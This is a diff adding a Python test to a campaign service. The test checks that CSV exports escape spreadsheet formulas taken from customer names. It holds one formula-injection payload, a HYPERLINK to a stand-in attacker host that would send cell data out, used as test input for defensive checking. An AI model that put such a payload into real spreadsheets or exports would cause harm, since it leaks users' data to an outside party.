@@ -28,7 +28,7 @@ from tests.campaigns.conftest import (
     free_port,
     roots,
 )
-from tests.factories import track
+from tests.factories import identify, track
 
 OWNER = system_caller()
 
@@ -587,3 +587,27 @@ def test_preview_of_a_draft_says_what_the_funnel_decides_for_that_customer_now(
         "not in the audience when it was assigned",
         True,
     )
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_from_a_customers_name(
+    services: Services, tmp_path: Path
+) -> None:
+    services = campaign_services(services)
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    messages = []
+    for ref in ("c1", "c2", "c3", "c4"):
+        message = identify(ref, email=f"{ref}@example.com", first_name=attack)
+        message["context"] = {"consent": {"categoryPreferences": {"marketing_email": True}}}
+        messages.append(message)
+    services.intake.ingest(messages, source=Source("shop", "web"))
+    customers = roots(services, "c1", "c2", "c3", "c4")
+    add_segment(services, "everyone", customers)
+    body = "{{ customer.first_name }}"
+    campaign_id = _campaign(services, channel="export", subject=body, body=body)
+    output = tmp_path / "spring.csv"
+
+    report = services.campaigns.send(OWNER, campaign_id, output=output, now=NOW)
+
+    rows = list(csv.DictReader(output.open(newline="")))
+    assert len(rows) == report.sent > 0
+    assert {(row["subject"], row["text"]) for row in rows} == {("'" + attack, "'" + attack)}
